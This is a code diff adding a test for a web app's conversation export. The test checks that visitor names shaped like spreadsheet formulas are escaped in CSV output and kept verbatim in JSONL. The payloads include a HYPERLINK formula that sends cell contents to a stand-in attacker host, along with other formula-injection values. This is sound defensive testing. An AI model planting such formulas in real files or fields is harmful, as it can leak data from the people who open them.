@@ -64,3 +64,21 @@ def test_batches_walk_every_row_once_in_order(app, customer):
 def test_invalid_export_filters_are_422(login_as, customer):
     response = login_as(customer).get("/conversations/export.csv?start=nope")
     assert response.status_code == 422 and "Not a valid date" in response.get_data(as_text=True)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_a_visitor_named_like_a_formula_is_text_in_the_csv_and_as_is_in_jsonl(login_as, customer):
+    names = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rReturn", "Plain - name", "-0.5"]
+    for name in names:
+        factories.make_conversation(customer, visitor=factories.make_visitor(customer, name=name))
+    db.session.commit()
+    client = login_as(customer)
+    rows = list(csv.DictReader(io.StringIO(client.get("/conversations/export.csv").get_data(as_text=True),
+                                           newline="")))
+    assert sorted(row["visitor_name"] for row in rows) == sorted(
+        ["'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1)", "'\tTab", "'\rReturn", "Plain - name", "-0.5"])
+    assert {row["visitor_phone"] for row in rows} == {"+14155550199"}  # a number alone calls nothing
+    lines = client.get("/conversations/export.jsonl").get_data(as_text=True).splitlines()
+    assert sorted(json.loads(line)["visitor_name"] for line in lines) == sorted(names)
